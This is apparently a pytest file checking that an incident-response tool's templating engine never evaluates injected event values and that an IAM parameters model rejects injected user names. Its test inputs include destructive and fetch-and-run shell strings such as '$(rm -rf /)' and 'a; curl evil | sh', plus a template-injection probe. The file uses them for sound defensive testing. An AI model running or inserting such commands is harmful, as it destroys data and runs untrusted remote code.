"""Templating binds values by path and never evaluates what an event carries."""

from __future__ import annotations

import pytest
from pydantic import ValidationError

from responder.actuators.aws.iam import AccessKeyParams
from responder.engine.templating import TemplateError, render

SCOPE = {"event": {"actor": "alice", "severity": {"score": 8.0}, "resource": {"access_key": {"id": "AKIA1"}}}}


def test_whole_placeholder_keeps_type():
    """A value that is exactly one placeholder becomes the typed value."""
    assert render("${event.severity.score}", SCOPE) == 8.0


def test_embedded_placeholder_is_text():
    """A placeholder inside text is replaced by the value's text."""
    assert render("user ${event.actor}!", SCOPE) == "user alice!"


@pytest.mark.parametrize("payload", ["{{7*7}}", "${event.actor}", "$(rm -rf /)", "a; curl evil | sh", "x" * 10_000])
def test_injected_values_stay_inert(payload):
    """Values arriving in an event are substituted once and never re-rendered or evaluated."""
    scope = {"event": {"actor": payload}}
    assert render("${event.actor}", scope) == payload
    assert render("u=${event.actor}", scope) == f"u={payload}"


@pytest.mark.parametrize("payload", ["{{7*7}}", "alice; rm -rf /", "x" * 100])
def test_params_model_rejects_injected_user_names(payload):
    """An injected user name never reaches IAM: the params model rejects it."""
    with pytest.raises(ValidationError):
        AccessKeyParams(user_name=payload, access_key_id="AKIAABCDEFGHIJKLMNOP")


def test_missing_path_is_an_error():
    """A path the event does not carry is a TemplateError, not an empty string."""
    with pytest.raises(TemplateError):
        render("${event.nothing.here}", SCOPE)


def test_unknown_namespace_is_an_error():
    """Paths must start with event, incident or steps."""
    with pytest.raises(TemplateError):
        render("${os.environ}", SCOPE)
